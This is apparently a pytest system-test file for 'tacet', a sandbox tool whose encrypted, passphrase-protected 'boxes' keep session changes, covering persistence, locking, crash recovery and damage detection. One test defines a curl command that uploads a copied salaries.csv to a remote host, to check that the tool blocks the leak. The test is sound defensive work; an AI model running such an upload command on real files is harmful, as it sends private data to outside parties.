# SPDX-License-Identifier: GPL-3.0-or-later
"""A box keeps what a session changed for the next one, under its owner's passphrase, and shows it to nobody else."""

import pytest

from tests.system.sessions import private, wait_until_gone
from tests.system.terminal import sit
from tests.system.test_private_disk import SAID, STAMP, count

NEWEST_KERNEL_ONLY = True
PASSPHRASE = "correct horse battery"
FOLDER = "/var/lib/tacet/boxes"
UPLOAD = "curl -sS -m 90 -T ~/copy http://remote/"


class Box:
    """A box of anna's with a name of its own, and what is done with it."""

    def __init__(self, scene, name):
        self.scene, self.name = scene, name

    def session(self, script, *options, passphrase=PASSPHRASE):
        """The command line of a private session with this box."""
        return f"{private(script, '--box', self.name, '--passphrase-file', '/dev/stdin', *options)} <<<'{passphrase}'"

    def run(self, script, *options, **more):
        """Runs a session to its end, and the box is closed again."""
        done = self.scene.run(self.session(script, *options, **more), timeout=120)
        wait_until_gone(self.scene.guest)
        return done

    def facts(self):
        """What `tacet box list` says of it; None without it."""
        return next((box for box in self.scene.tacet.json("box", "list", person=True) if box["name"] == self.name), None)


@pytest.fixture
def box(scene):
    """A new box, removed at the end."""
    made = Box(scene, f"box-{scene.folder[-8:]}")
    yield made
    scene.tacet.run("session", "end", "--all", person=True)
    wait_until_gone(scene.guest)
    scene.tacet.run("box", "remove", made.name, person=True, check=False)


@pytest.mark.nightly
def test_keeps_changes(scene, box):
    """What one session wrote and deleted is so in the next, and nowhere else. /tmp and the like begin anew."""
    scene.guest.write(f"{scene.folder}/old", "old\n", user="anna")
    done = box.run(f"echo new >new; rm old; mkdir -p ~/.config/box; echo set >~/.config/box/settings; echo x >/tmp/{box.name}")
    assert done.returncode == 0, done.stderr
    look = f"cat new ~/.config/box/settings; ls old /tmp/{box.name}"
    done = box.run(look)
    assert done.stdout == "new\nset\n" and done.stderr.count("No such file") == 2, done
    assert scene.run(private(look)).stdout == "old\n"
    assert scene.run(look).stdout == "old\n"
    assert scene.guest.run("ls /home/anna/.config/box").returncode != 0
    # One at once after the other, and removed at once.
    done = scene.run(f"{box.session('echo a >>new')}; {box.session('cat new')}; tacet box list", timeout=120)
    assert done.stdout.startswith("new\na\n") and box.name in done.stdout, done
    facts = box.facts()
    assert facts["session"] == 0 and 0 < facts["used"] < facts["size"] == 4 << 30


@pytest.mark.nightly
def test_needs_its_passphrase(scene, box):
    """Another passphrase opens nothing, nor does a short one make a box. The right one opens it afterwards."""
    short = box.run("true", passphrase="short")
    assert short.returncode == 1 and "at least 8 characters" in short.stderr and box.facts() is None
    assert box.run("echo mine >mine", "--size", "64M").returncode == 0
    wrong = box.run("cat mine", passphrase=PASSPHRASE + "!")
    assert (wrong.returncode, wrong.stdout) == (125, "") and "wrong passphrase" in wrong.stderr
    resized = box.run("cat mine", "--size", "128M")
    assert resized.returncode == 125 and "keeps the size" in resized.stderr
    assert box.run("cat mine").stdout == "mine\n"


@pytest.mark.nightly
def test_asks_at_the_terminal(scene, box):
    """The person is asked twice for a new box and once for one that is there. Nothing that is typed is shown."""
    command = f"tacet run --display none --box {box.name} --size 64M -- sh -c 'echo done >>log; cat log'; echo over"
    other = sit(scene, command, ("", "New passphrase: "), (PASSPHRASE + "\n", "The same again: "), ("different\n", "two different.*\\s+over"))
    new = sit(scene, command, ("", "New passphrase: "), (PASSPHRASE + "\n", "The same again: "), (PASSPHRASE + "\n", "done\\s+over"))
    wait_until_gone(scene.guest)
    given_up = sit(scene, command, ("", f'Passphrase of the box "{box.name}": '), ("\x03", "no passphrase was given\\s+over"))
    again = sit(scene, command.replace(" --size 64M", ""), ("", "Passphrase of the box"), (PASSPHRASE + "\n", "done\\s+done\\s+over"))
    for seen in (other, new, given_up, again):
        assert seen["same"] and PASSPHRASE not in seen["shown"] and "different\r" not in seen["shown"], seen


def test_is_noise_on_the_disk(scene, box):
    """Neither what is in the box nor its passphrase is readable on the disk, while it is open and after."""
    assert box.run(f"for i in {{1..20000}}; do echo {SAID}; done >~/stamps; sync ~/stamps").returncode == 0
    assert int(scene.guest.run(f"stat -c %s {FOLDER}/1000/{box.name}", check=True).stdout) > 4 << 30
    assert count(scene, STAMP) == 0 and count(scene, PASSPHRASE) == 0


@pytest.mark.nightly
def test_one_session_at_a_time(scene, box):
    """A box that is open is opened by nobody else, nor removed; a restart of tacetd changes nothing about that."""
    scene.start(box.session("exec -a in-box sleep 1000"))
    scene.guest.wait_for(lambda: scene.guest.run("pgrep -f in-box.1000").returncode == 0, 60, "the private program")
    for restart in ("true", "systemctl restart tacetd"):
        scene.guest.run(restart, check=True)
        scene.guest.wait_for(lambda: scene.tacet.json("session", "list", check=False), what="the session")
        second = scene.run(box.session("true"))
        assert second.returncode == 125 and "the box is in use" in second.stderr, second
        refused = scene.tacet.run("box", "remove", box.name, person=True, check=False)
        assert refused.returncode == 1 and f"uses the box {box.name}" in refused.stderr, refused
    assert box.facts()["session"] == scene.tacet.json("session", "list")[0]["id"]
    # tacetd does not know of a box that a process of root's has open. The lock on its file says so.
    locked = scene.guest.run(f"flock --nonblock {FOLDER}/1000/{box.name} true")
    assert locked.returncode == 1


@pytest.mark.nightly
def test_outlives_a_crash(scene, box):
    """What was synced is there after the session was killed, and after a power cut of its own: a box whose file was copied
    while it was open."""
    scene.start(box.session("echo safe >~/safe; sync; exec -a in-box sleep 1000", "--size", "64M"))
    scene.guest.wait_for(lambda: scene.guest.run("pgrep -f in-box.1000").returncode == 0, 60, "the private program")
    path = f"{FOLDER}/1000/{box.name}"
    scene.guest.run(f"cp --sparse=always {path} {path}-cut; systemctl kill --signal=KILL 'tacet-session-*'", check=True)
    wait_until_gone(scene.guest)
    assert box.run("cat ~/safe").stdout == "safe\n"
    cut = Box(scene, box.name + "-cut")
    assert cut.run("cat ~/safe").stdout == "safe\n"
    assert "removed" in scene.tacet.run("box", "remove", cut.name, person=True).stdout


@pytest.mark.nightly
def test_has_a_window(scene, box):
    """A session with a box and a display of its own gets both."""
    shown = box.session("xwininfo -root >~/shown", "--size", "64M").replace("--display none", "--display nested")
    done = scene.run(shown, timeout=120)
    assert done.returncode == 0, done.stderr
    wait_until_gone(scene.guest)
    assert "the root window" in box.run("cat ~/shown").stdout


@pytest.mark.nightly
def test_labels_stay(scene, box):
    """A copy of a labelled file that was made in a box is asked about in the next session, too."""
    scene.label()
    assert box.run("cp salaries.csv ~/copy").returncode == 0
    question, _ = scene.send_and_answer(box.session(UPLOAD), "block")
    assert question["in_session"]
    scene.assert_nothing_leaked()


@pytest.mark.nightly
def test_is_its_owners(scene, box):
    """Nobody else lists, opens or removes it. Its owner removes it for good."""
    assert box.run("true", "--size", "64M").returncode == 0
    assert scene.tacet.json("box", "list") == []
    refused = scene.tacet.run("box", "remove", box.name, check=False)
    assert refused.returncode != 0 and "no such box" in refused.stderr
    assert scene.run(f"ls {FOLDER}").returncode != 0
    scene.guest.run(f"ln {FOLDER}/1000/{box.name} /root/linked", check=True)
    removed = scene.run(f"{box.session('true')}; tacet box remove {box.name}", timeout=120)
    assert removed.returncode == 0, removed.stderr
    left = scene.guest.run("head -c 1M /root/linked | tr -d '\\0' | wc -c; rm /root/linked", check=True).stdout
    assert left.strip() == "0" and box.facts() is None
    wait_until_gone(scene.guest)


@pytest.mark.nightly
def test_damaged_box_is_told(scene, box):
    """A box whose file was cut or overwritten is not opened, and what is left of it stays."""
    assert box.run("true", "--size", "64M").returncode == 0
    path = f"{FOLDER}/1000/{box.name}"
    for harm, told in (("dd if=/dev/zero of={0} bs=1M count=1 conv=notrunc status=none", "header cannot be read"),
                       ("truncate -s 512K {0}", "too short")):
        scene.guest.run(harm.format(path), check=True)
        done = box.run("true")
        assert done.returncode == 125 and told in done.stderr, done
    assert box.facts() is not None


@pytest.mark.nightly
def test_full_box(scene, box):
    """A full box is a full disk to the program. It is closed properly, and opens again."""
    done = box.run("head -c 200M /dev/zero >~/big; echo $?; sleep 3", "--size", "64M")
    assert "No space left on device" in done.stderr and done.stderr.count("the session's store is full") == 1
    assert box.run("test -s ~/big && rm ~/big && echo room >~/room && cat ~/room").stdout == "room\n"
